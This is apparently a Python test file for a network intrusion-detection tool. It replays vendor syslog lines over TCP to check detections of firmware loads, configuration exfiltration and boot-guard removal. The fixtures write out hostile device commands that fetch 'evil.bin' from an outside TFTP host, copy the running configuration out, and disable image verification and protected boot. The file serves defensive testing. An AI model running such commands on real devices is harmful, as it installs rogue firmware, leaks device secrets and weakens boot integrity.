"""BW07, BW18, BW27: what devices of each vendor log of their commands, to a collector that takes syslog by TCP."""

from __future__ import annotations

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import HQ, OUTSIDE
from bootwarden.traffic import syslog
from bootwarden.traffic.wire import Tcp, Wire

LOAD, SEND = f"copy tftp://{OUTSIDE}/evil.bin flash:", f"copy running-config tftp://{OUTSIDE}/x.cfg"
WEAKEN = "no file verify auto"
BY = "by tcp-msg(winbox):admin@10.0.6.6"
FETCH = f"/tool fetch url=tftp://{OUTSIDE}/evil.bin"
UPLOAD = f"/tool fetch upload=yes src-path=x.cfg url=ftp://{OUTSIDE}/x.cfg"
UNGUARD = "/system routerboard settings set protected-routerboot=disabled"
ACCOUNTED = "<190>: 2026 Jan  5 08:00:00 UTC: %AAA-6-AAA_ACCOUNTING_MESSAGE: update:10.0.6.6@pts/0:admin:"
SMALL = "<190>Jan  5 08:00:00 sw1 %COPY-I-FILECPY: Files Copy - source URL "
INSTALL = "<189>123: *Jan  5 08:00:00.588: %INSTALL-5-INSTALL_START_INFO: R0/0: install_mgr: Started install "
# The rules of a load, a send and a guard taken off, and what the device logs of them.
TOLD: tuple[tuple[tuple[int, int, int], tuple[str, ...]], ...] = (
    (
        (1542007577, 1542007510, 1542007520),
        tuple(f"<189>85: *Jan  5 08:00:00.100: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:{c}"
              for c in (LOAD, SEND, WEAKEN)),
    ),
    ((1542007578, 1542007511, 1542007521), tuple(f"{ACCOUNTED}{c} (SUCCESS)" for c in (LOAD, SEND, WEAKEN))),
    (
        (1542007500, 1542007512, 1542007522),
        tuple(f"<189>%ASA-5-111010: User 'a', running 'CLI' from IP 10.0.6.6, executed '{c}'"
              for c in (LOAD, SEND, WEAKEN)),
    ),
    (
        (1542007502, 1542007513, 1542007523),
        tuple(f"<190>86: *Jan  5 08:00:00.100: %HA_EM-6-LOG: catchall: {c}" for c in (LOAD, SEND, WEAKEN)),
    ),
    (
        (1542007503, 1542007514, 0),
        (f"{SMALL}tftp://{OUTSIDE}/evil.bin destination URL flash://image-2",
         f"{SMALL}running-config destination URL tftp://{OUTSIDE}/x.cfg"),
    ),
    (
        (1542007504, 1542007515, 0),
        tuple(f"<13>Jan  5 08:00:00 awplus IMISH[10424]: [manager@10.0.6.6]{c}" for c in (LOAD, SEND)),
    ),
    (
        (1542007505, 1542007516, 0),
        tuple(f"<189>%Jan 5 08:00:00 2026 sw1 [zIMI]:[Telnet/SSH] admin@10.0.6.6:59401, {c}" for c in (LOAD, SEND)),
    ),
    ((1542007506, 1542007517, 0), tuple(f'<190>INFO(6) admin: execute command "{c}".' for c in (LOAD, SEND))),
    ((1542007507, 0, 0), (f"{INSTALL}add_activate_commit tftp://{OUTSIDE}/evil.bin",)),
    (
        (1542007508, 1542007519, 0),
        tuple(f"<189>0000000014: Jan  5 08:00:00: sw1: %CMDLINE-6-COMMAND: (1) admin: {c}" for c in (LOAD, SEND)),
    ),
    (
        (1542007509, 1542007540, 1542007550),
        tuple(f"<30>Jan  5 08:00:00 MikroTik system,info fetch executed {BY} ({c})" for c in (FETCH, UPLOAD, UNGUARD)),
    ),
    (
        (1542007501, 1542007532, 0),
        tuple(f"<110>1 2026-01-05T08:00:00.893679+00:00 leaf1 .clish 29156 - - Node.1-Unit.1:PRI [audit], User admin "
              f"on /dev/pts/0 from 10.0.6.6 used cmd: '{c}' - completed"
              for c in (f"image install tftp://{OUTSIDE}/evil.bin", SEND.replace("config ", "configuration "))),
    ),
)  # fmt: skip
DEVICES = [f"10.0.1.{200 + number}" for number in range(len(TOLD))]
DETECTIONS = ("BW07", "BW18", "BW27")


def by_tcp(wire: Wire, device: str, *lines: str) -> None:
    """Messages on one connection, each with its end of line in a segment of its own."""
    tcp = Tcp(wire, device, 50601, syslog.COLLECTOR, 514)
    for line in lines:
        tcp.send(f"{line}\n".encode())
    tcp.close()


def notices(*, guards: bool) -> tuple[Notice, ...]:
    """What is told of each device: with a site also the guards that were taken off."""
    found = []
    for device, (sids, _) in zip(DEVICES, TOLD, strict=True):
        found.append(Notice("Boot_Command", device, OUTSIDE, "evil.bin"))
        if sids[1]:
            found.append(Notice("Config_Exfiltration", device, OUTSIDE, "x.cfg"))
        if sids[2] and guards:
            found.append(Notice("Boot_Integrity_Lowered", device))
    return tuple(found)


@scenario(
    "BW07",
    "malicious",
    raises=[
        (detection, sid, device, syslog.COLLECTOR)
        for device, (sids, _) in zip(DEVICES, TOLD, strict=True)
        for detection, sid in zip(DETECTIONS, sids, strict=True)
        if sid
    ],
    plain=Expect(notices(guards=False)),
    site=HQ,
    with_site=Expect(notices(guards=True)),
)
def bw07_logged_by_tcp(wire: Wire) -> None:
    """Loads and sends across the border, and guards taken off, in every vendor's log, to a collector by TCP."""
    for device, (_, lines) in zip(DEVICES, TOLD, strict=True):
        by_tcp(wire, device, *lines)


LOADED = f"tftp://{OUTSIDE}/evil.bin"
FRAMED = [f"10.0.1.{number}" for number in (240, 241, 242, 243, 244)]
"""Devices that end or count their messages in ways of their own."""


@scenario(
    "BW07",
    "malicious",
    # No rule looks behind the change of a context.
    raises=[
        ("BW07", sid, device, syslog.COLLECTOR)
        for device, sid in zip(FRAMED[:4], (*[1542007577] * 3, 1542007500), strict=True)
    ],
    plain=Expect(tuple(Notice("Boot_Command", device, OUTSIDE, "evil.bin") for device in FRAMED)),
    site=HQ,
    with_site=Expect(tuple(Notice("Boot_Command", device, OUTSIDE, "evil.bin") for device in FRAMED)),
)
def bw07_framed_otherwise(wire: Wire) -> None:
    """The last message has no end but the connection's; a count comes in pieces, or a newline ends what is counted,
    too; ASA in EMBLEM format names the class; NX-OS changes to a context first.
    """
    order = f"<189>86: *Jan  5 08:00:00.100: %PARSER-5-CFGLOG_LOGGEDCMD: User:a  logged command:boot system {LOADED}"
    other = "<189>85: *Jan  5 08:00:00.100: %SYS-5-CONFIG_I: Configured from console by a on vty0"
    counted = [f"{len(line)} {line}".encode() for line in (other, order)]
    asa = f"<165>:Jan 05 08:00:00 UTC: %ASA-config-5-111008: User 'a' executed the 'copy {LOADED} disk0:' command.\n"
    nxos = "<189>: 2026 Jan  5 08:00:00 UTC: %AAA-6-AAA_ACCOUNTING_MESSAGE: "
    nxos += f"update:10.0.6.6@pts/0:a:switchto vdc x ; copy {LOADED} bootflash: (SUCCESS)\n"
    streams = (
        [f"{other}\n{order}".encode()],
        [counted[0][:2], counted[0][2:3], counted[0][3:], counted[1]],
        [b"\n".join(counted) + b"\n"],
        [asa.encode()],
        [nxos.encode()],
    )
    for device, pieces in zip(FRAMED, streams, strict=True):
        tcp = Tcp(wire, device, 50602, syslog.COLLECTOR, 514)
        for piece in pieces:
            tcp.send(piece)
        tcp.close()


@scenario("BW07", "benign", site=HQ, with_site=Expect())
def bw07_everyday_logs_by_tcp(wire: Wire) -> None:
    """The same devices log by TCP what they are told every day."""
    for device, (_, lines) in zip(DEVICES, TOLD, strict=True):
        before = lines[0].replace(FETCH, "/ip firewall filter set *5 disabled=yes")
        before = before.replace(f"tftp://{OUTSIDE}/evil.bin", "flash:old.bin")
        by_tcp(wire, device, before, "<189>90: %SYS-5-CONFIG_I: Configured from console by admin on vty0")
